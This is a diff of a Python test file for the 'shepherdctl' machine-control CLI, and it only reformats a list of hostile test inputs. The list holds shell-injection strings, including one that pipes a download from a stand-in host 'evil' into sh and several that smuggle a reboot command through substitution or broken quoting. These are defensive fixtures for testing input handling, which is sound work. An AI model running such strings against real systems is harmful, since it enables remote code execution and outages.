@@ -12,22 +12,8 @@ from shepherdctl.selection import Selection
 from tests.support.console import parsed, words
 
 WRITE = ("machine retry", "machine unquarantine", "machine reboot", "machine release")
-HOSTILE = (
-    "srv-1; curl evil|sh",
-    "$(reboot)`reboot`${HOME}",
-    "'; reboot; '",
-    '"; reboot; "',
-    "a\\",
-    "\\'; reboot #",
-    "--yes",
-    "-h",
-    "--",
-    "!!",
-    "*",
-    "~",
-    "ärger \U0001f525",
-    "two  spaces",
-)
+HOSTILE = ["srv-1; curl evil|sh", "$(reboot)`reboot`${HOME}", "'; reboot; '", '"; reboot; "', "a\\", "\\'; reboot #"]
+HOSTILE += ["--yes", "-h", "--", "!!", "*", "~", "ärger \U0001f525", "two  spaces"]
 
 
 def shown(address: str) -> list[str]:
